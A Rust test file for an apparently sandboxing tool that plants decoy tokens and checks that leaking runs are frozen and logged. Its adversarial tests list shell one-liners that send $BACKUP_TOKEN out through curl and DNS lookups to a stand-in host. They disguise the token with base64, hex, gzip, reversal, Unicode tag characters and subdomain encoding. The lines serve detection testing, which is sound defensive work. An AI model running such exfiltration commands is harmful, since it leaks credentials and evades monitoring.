//! Decoys: whoever sends one is stopped where they stand.

use std::process::Stdio;
use std::time::{Duration, Instant};

use crate::world::{EVERYONE, PUBLIC, World};

/// Waits until the only run stands still.
fn stands_still(world: &World) -> bool {
    let until = Instant::now() + Duration::from_secs(10);
    while Instant::now() < until {
        let told = world.palisade(&["--json", "ps"]).output().unwrap();
        if String::from_utf8_lossy(&told.stdout).contains("\"frozen\":true") {
            return true;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    false
}

#[test]
fn sec_19_adv_c05_a_decoy_on_its_way_out_stops_everything() {
    let ways = [
        "curl -sS -H \"x-note: $BACKUP_TOKEN\" http://site.test/",
        "curl -sS http://site.test/$(printf %s \"$BACKUP_TOKEN\" | od -An -tx1 | tr -d ' \\n')",
        "printf 'xx%s' \"$BACKUP_TOKEN\" | base64 -w0 | curl -sS --data-binary @- http://site.test/",
        "printf %s \"$BACKUP_TOKEN\" | rev | curl -sS --data-binary @- http://site.test/",
        "printf %s \"$BACKUP_TOKEN\" | base32 | curl -sS --data-binary @- http://site.test/",
        "printf %s \"$BACKUP_TOKEN\" | od -An -tx1 | curl -sS --data-binary @- http://site.test/",
        "printf %s \"$BACKUP_TOKEN\" | fold -w1 | curl -sS --data-binary @- http://site.test/",
        "python3 -c 'import os; print(str().join(chr(0xe0000 + ord(c)) for c in os.environ[\"BACKUP_TOKEN\"]))' | curl -sS --data-binary @- http://site.test/",
        "printf %s \"$BACKUP_TOKEN\" | gzip | curl -sS -H 'Content-Encoding: gzip' --data-binary @- http://site.test/",
        "printf %s \"$BACKUP_TOKEN\" | gzip | curl -sS --data-binary @- http://site.test/",
        // Where no rule lets it go, and in a name that the proxy is asked for.
        "curl -sS http://site.test:81/$BACKUP_TOKEN; curl -sS http://site.test/no/$BACKUP_TOKEN",
        "curl -sS -x http://198.18.0.1:3128 http://$(printf %s \"$BACKUP_TOKEN\" | cut -c1-30).site.test/",
        "getent hosts $(printf %s \"$BACKUP_TOKEN\" | tr -d _ | cut -c1-30).site.test",
        "getent hosts $(printf %s \"$BACKUP_TOKEN\" | od -An -tx1 | tr -d ' \\n' | cut -c1-60).evil.test",
    ];
    for (at, way) in ways.into_iter().enumerate() {
        let world = World::new(EVERYONE[at % 2]);
        let server = world.http(PUBLIC, 80);
        world.file("rules.toml", "[[rule]]\nhost = \"site.test\"\nports = [80]\npaths = [\"/\", \"/*\"]\n");
        let rules = world.project().join("rules.toml");
        let script = format!("{way}; sleep 0.3; echo went on > went-on; sleep 30");
        let options =
            ["run", "--decoy", "BACKUP_TOKEN", "--rules", rules.to_str().unwrap(), "--", "sh", "-c", &script];
        let mut run = world.palisade(&options).stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
        assert!(stands_still(&world), "{way}");
        std::thread::sleep(Duration::from_millis(600));
        assert!(!world.project().join("went-on").exists(), "{way}");
        assert!(world.palisade(&["stop", "--now"]).output().unwrap().status.success(), "{way}");
        run.wait().unwrap();
        let found = world.entries("network.finding");
        let told =
            found.iter().any(|entry| entry.detail.get("decoy").is_some_and(|name| name == "BACKUP_TOKEN"));
        assert!(told, "{way}: {found:?}");
        assert!(server.asked().is_empty(), "{way}: {:?}", server.asked());
    }
}

#[test]
fn sec_19_honest_runs_are_left_alone() {
    for who in EVERYONE {
        let world = World::new(who);
        let server = world.http(PUBLIC, 80);
        let count = tests::scale(100, 5);
        for _ in 0..count {
            let script =
                "test ${#BACKUP_TOKEN} = 40; curl -sS -d 'some content' http://site.test/a >/dev/null
                          getent hosts no-such-name.evil.test || true; env > /dev/null";
            let said = world.run(&["--decoy", "BACKUP_TOKEN", "--allow", "site.test:80"], script).ok();
            assert!(!said.err.contains("found"), "{}", said.err);
        }
        assert_eq!(server.asked().len(), count, "{who:?}");
        // Each run has its own.
        let keep = |_| {
            world.run(&["--decoy", "GITHUB_TOKEN"], "echo $GITHUB_TOKEN > word").ok();
            std::fs::read_to_string(world.project().join("word")).unwrap()
        };
        let words: Vec<String> = (0..2).map(keep).collect();
        assert!(words[0].starts_with("ghp_") && words[0] != words[1], "{words:?}");
    }
}

#[test]
fn sec_19_adv_c05_a_decoy_that_is_printed_is_not_shown_and_stops_everything() {
    let ways = [
        "echo \"$BACKUP_TOKEN\"",
        "printf %s \"$BACKUP_TOKEN\" | base64 -w0 >&2",
        "printf %s \"$BACKUP_TOKEN\" | od -An -tx1",
        "printf %s \"$BACKUP_TOKEN\" | rev",
        "printf %s \"$BACKUP_TOKEN\" | fold -w1; echo",
        "python3 -c 'import os; print(str().join(chr(0xe0000 + ord(c)) for c in os.environ[\"BACKUP_TOKEN\"]))'",
        // Cut where each half is printed by itself.
        "printf %s \"$BACKUP_TOKEN\" | cut -c1-12 | tr -d '\\n'; sleep 0.2; printf %s \"$BACKUP_TOKEN\" | cut -c13-",
    ];
    for (at, way) in ways.into_iter().enumerate() {
        let world = World::new(EVERYONE[at % 2]);
        let script = format!(
            "echo $BACKUP_TOKEN > word; echo before; sleep 0.2; {way}; sleep 0.3; echo after; touch went-on; sleep 30"
        );
        let arguments = ["run", "--decoy", "BACKUP_TOKEN", "--", "sh", "-c", &script];
        let run = world.palisade(&arguments).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        assert!(stands_still(&world), "{way}");
        std::thread::sleep(Duration::from_millis(600));
        assert!(!world.project().join("went-on").exists(), "{way}");
        assert!(world.palisade(&["stop", "--now"]).output().unwrap().status.success(), "{way}");
        let said = crate::world::Said::of(&run.wait_with_output().unwrap());
        let word = std::fs::read_to_string(world.project().join("word")).unwrap();
        let (word, all) = (word.trim(), format!("{}{}", said.out, said.err));
        assert!(
            all.contains("before") && !all.contains("after") && !all.contains(&word[word.len() - 20..]),
            "{way}: {all}"
        );
        assert!(said.err.contains("was about to be printed"), "{way}: {}", said.err);
        let found = world.entries("network.finding");
        assert!(
            found.iter().any(|entry| entry.detail.get("sink").is_some_and(|sink| sink == "output")),
            "{found:?}"
        );
    }
}
